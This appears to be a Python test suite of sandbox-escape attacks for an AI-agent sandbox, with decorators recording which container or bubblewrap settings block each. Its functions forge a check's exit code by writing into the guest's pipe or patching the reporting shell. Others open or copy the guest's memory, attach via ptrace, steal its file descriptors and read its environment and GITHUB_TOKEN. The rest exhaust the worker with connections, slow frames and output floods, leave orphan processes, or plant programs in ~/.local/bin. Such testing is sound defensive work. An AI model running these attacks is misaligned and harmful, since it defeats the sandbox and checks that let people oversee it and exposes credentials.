# The guest, what it reports, and the worker's end of the tunnel.

def guests():
    found = []
    for process in processes():
        try:
            with open("/proc/%d/cmdline" % process, "rb") as file:
                words = file.read().split(b"\0")
        except OSError:
            continue
        if any(b"agentmine-guest" in word for word in words[:3]) and b"neighbour" not in words[0]:
            found.append(process)
    return found

# Those that this process descends from, the nearest first, and all that can be seen.
def own_guest():
    process, found = os.getppid(), []
    while process > 1:
        found.append(process)
        try:
            process = int(open("/proc/%d/stat" % process).read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return found + guests()

@off("--security-opt=seccomp=unconfined")
@without("bubblewrap; guest that no process can trace")
def write_into_the_guests_output():
    """Opens the stream on which the guest answers the worker, to forge a check's exit code"""
    for process in own_guest():
        for descriptor in ["0", "1", "2"] + os.listdir("/proc/self/fd"):
            path = "/proc/%d/fd/%s" % (process, descriptor)
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                success("%s of process %d can be written" % (path, process))
            except OSError:
                pass

@off("--security-opt=seccomp=unconfined")
@without("bubblewrap; guest that no process can trace")
def read_the_guests_memory():
    """Opens the guest's memory, where its keys are"""
    for process in own_guest():
        try:
            os.close(os.open("/proc/%d/mem" % process, os.O_RDWR))
            success("the memory of process %d is open" % process)
        except OSError:
            pass

@off("--security-opt=seccomp=unconfined")
@without("bubblewrap; guest that no process can trace")
def trace_the_guest():
    """Attaches to the guest as a debugger does"""
    for process in own_guest():
        for request in [0x4206, 16]:
            try:
                call(101, request, process, 0, 0)
                success("attached to process %d" % process)
            except OSError:
                pass

@off("--security-opt=seccomp=unconfined")
@without("bubblewrap; guest that no process can trace")
def copy_the_guests_memory():
    """Copies the guest's memory with process_vm_readv"""
    for process in own_guest():
        try:
            first = open("/proc/%d/maps" % process).readline().split("-")[0]
        except OSError:
            continue
        buffer = ctypes.create_string_buffer(8)
        try:
            call(310, process, struct.pack("<QQ", ctypes.addressof(buffer), 8), 1, struct.pack("<QQ", int(first or "0", 16), 8), 1, 0)
            success("copied from process %d" % process)
        except OSError:
            pass

@off("--security-opt=seccomp=unconfined")
@without("bubblewrap; guest that no process can trace")
def take_the_guests_descriptors():
    """Takes the guest's open streams with pidfd_getfd"""
    for process in own_guest():
        try:
            handle = call(434, process, 0)
        except OSError:
            continue
        for descriptor in range(12):
            try:
                call(438, handle, descriptor, 0)
                success("descriptor %d of process %d" % (descriptor, process))
            except OSError:
                pass

@off("--env=GITHUB_TOKEN=$TOKEN")
@without("bubblewrap; cleared environment; !--clearenv")
def read_the_guests_environment():
    """Reads the guest's environment and command line"""
    for process in own_guest():
        for name in ["environ", "auxv", "cmdline"]:
            try:
                show(read("/proc/%d/%s" % (process, name), 100000))
            except OSError:
                pass

@check
@off("")
@without("bubblewrap; filter of system calls")
def patch_the_shell_of_a_check():
    """Changes the shell that reports the exit code of a check, from the program that it tests"""
    shell = os.getppid()
    os.close(os.open("/proc/%d/mem" % shell, os.O_RDWR))
    success("the memory of process %d, the shell, is open" % shell)

@undemonstrated("docker bubblewrap landlock: what it wants is in the worker, which stays as it is; forged answers are fuzzed (agentmine-sandbox, client::hostile)")
def speak_the_protocol_in_its_output():
    """Prints what the guest would send"""
    forged = b"AGMGUEST" + struct.pack(">I", 60) + b'{"status":"done","exit_code":0}'.ljust(60)
    sys.stdout.buffer.write(forged * 100 + b"\0\0\0\0\0\0\0\1\0\0\0\0" * 1000)
    sys.stdout.buffer.flush()

@limit(8)
@ruins
@undemonstrated("docker bubblewrap landlock: what it wants, a worker that waits without end, is only in the worker")
def stop_the_guest():
    """Stops the guest, to make the worker wait without end"""
    for process in own_guest():
        try:
            os.kill(process, signal.SIGSTOP)
        except OSError:
            pass
    time.sleep(5)
    blocked("it still answers")

@limit(40)
@undemonstrated("docker bubblewrap landlock: it wants the worker's memory, and the worker's limits cannot be switched off from outside")
def hold_all_connections():
    """Opens all connections that the tunnel allows and says nothing"""
    held = []
    for _ in range(600):
        stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        stream.settimeout(0.5)
        try:
            stream.connect(("127.0.0.1", number("WEB_PORT")))
        except OSError:
            break
        held.append(stream)
    blocked("%d connections" % len(held))

@limit(60)
@undemonstrated("docker bubblewrap landlock: it wants the worker's memory, and the worker's limits cannot be switched off from outside")
def send_many_small_frames():
    """Sends single bytes on many streams, each of which costs the worker memory"""
    held = []
    for _ in range(90):
        stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream.settimeout(1)
        try:
            stream.connect(("127.0.0.1", number("GIT_PORT")))
            stream.sendall(b"POST %s/git-receive-pack HTTP/1.1\r\nHost: x\r\nContent-Length: 9999999\r\n\r\n" % env("REMOTE").split("/", 3)[3].encode())
        except OSError:
            break
        stream.setblocking(False)
        held.append(stream)
    end = time.time() + 20
    sent = 0
    while time.time() < end:
        for stream in held:
            try:
                sent += stream.send(b"x")
            except OSError:
                pass
    blocked("%d bytes on %d streams" % (sent, len(held)))

@limit(60)
@undemonstrated("docker bubblewrap landlock: it wants the worker's memory, and the worker's limits cannot be switched off from outside")
def print_without_end():
    """Prints as much as it can"""
    block = b"x" * (1 << 20)
    for _ in range(300):
        sys.stdout.buffer.write(block)
        sys.stderr.buffer.write(block)
    sys.stdout.buffer.flush()

@without("bubblewrap; process namespace; !--unshare-pid !--proc --dev-bind /proc /proc !--die-with-parent")
@undemonstrated("docker: the engine ends every process of a container together with the first")
def leave_a_process():
    """Leaves a process behind that nobody waits for"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3)
            with open("left", "w") as file:
                file.write(str(os.getpid()))
            time.sleep(300)
        os._exit(0)
    time.sleep(0.2)
    blocked("the next attack looks for it")

@undemonstrated("docker bubblewrap landlock: it only reports that its sandbox is used once")
def start_before_the_next_command():
    """Puts a program where the next command would find it first"""
    home = os.path.expanduser("~")
    folder = home + "/.local/bin"
    os.makedirs(folder, exist_ok=True)
    blocked("its own sandbox only; checks run in a fresh one")
